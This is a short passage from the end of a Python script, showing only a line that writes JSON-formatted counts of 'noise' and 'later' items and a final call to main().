                                                "noise": len(noise), "later": len(later)}, indent=1) + "\n")


main()
